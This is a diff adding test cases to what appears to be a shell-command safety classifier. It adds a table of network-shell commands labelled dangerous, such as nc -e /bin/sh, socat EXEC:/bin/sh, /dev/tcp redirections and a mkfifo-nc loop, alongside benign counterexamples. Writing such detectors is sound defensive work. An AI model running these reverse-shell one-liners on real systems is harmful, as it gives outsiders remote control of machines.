@@ -146,6 +146,34 @@ const FETCH_AND_DECODE: Row[] = [
   ['bash <(curl x)', 'dangerous', 'D28'],
   ['source <(curl x)', 'dangerous', 'D28'],
   ['curl x | source /dev/stdin', 'dangerous', 'D27'],
+  ['telnet h 23 | sh', 'dangerous', 'D27'],
+];
+
+// A shell or interpreter without a script whose input is a network connection runs what arrives.
+const NETWORK_SHELLS: Row[] = [
+  ['nc -e /bin/sh 10.0.0.1 4444', 'dangerous', 'N34'],
+  ['busybox nc -e /bin/sh 1.2.3.4 80', 'dangerous', 'N34'],
+  ['ncat --exec /bin/bash -l 9000', 'dangerous', 'N34'],
+  ["ncat --sh-exec 'python3' h 1", 'dangerous', 'N34'],
+  ['nc -c bash h 1', 'dangerous', 'N34'],
+  ['socat TCP:1.2.3.4:80 EXEC:/bin/sh', 'dangerous', 'N34'],
+  ["socat tcp-connect:h:1 exec:'bash -li',pty,stderr", 'dangerous', 'N34'],
+  ['socat OPENSSL-LISTEN:443,fork SYSTEM:sh', 'dangerous', 'N34'],
+  ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'dangerous', 'N34'],
+  ['sh -i 3</dev/tcp/h/1 0<&3', 'dangerous', 'N34'],
+  ['sh < /dev/tcp/h/1', 'dangerous', 'N34'],
+  ['sh 0</dev/udp/h/1', 'dangerous', 'N34'],
+  ['python3 < /dev/tcp/h/1', 'dangerous', 'N34'],
+  ['exec 3</dev/tcp/h/1; sh <&3', 'dangerous', 'N34'],
+  ['exec 3<>/dev/tcp/h/1; sh <&3', 'dangerous', 'N34'],
+  ["exec 5</dev/tcp/h/1; bash -c 'sh <&5'", 'dangerous', 'N34'],
+  ['mkfifo f; nc h 1 < f | sh > f', 'dangerous', 'D27'],
+  // The connection is not the shell's input.
+  ['socat - EXEC:bash', 'safe'],
+  ['nc -e /bin/cat h 1', 'safe'],
+  ['exec 3</dev/tcp/h/1; sh <&3 0<notes.txt', 'safe'],
+  ['nc -zv 127.0.0.1 8080', 'safe'],
+  ['bash -i', 'safe'],
 ];
 
 const OTHER_CATEGORIES: Row[] = [
@@ -393,6 +421,7 @@ describe.each([
   ['values that may have changed', STALE_VALUES],
   ['a cd that may fail', FAILED_CD],
   ['fetched or decoded code', FETCH_AND_DECODE],
+  ['shells reading a network connection', NETWORK_SHELLS],
   ['other categories', OTHER_CATEGORIES],
   ['everyday commands', MUST_NOT_FLAG],
 ])('%s', (_title, rows) => {
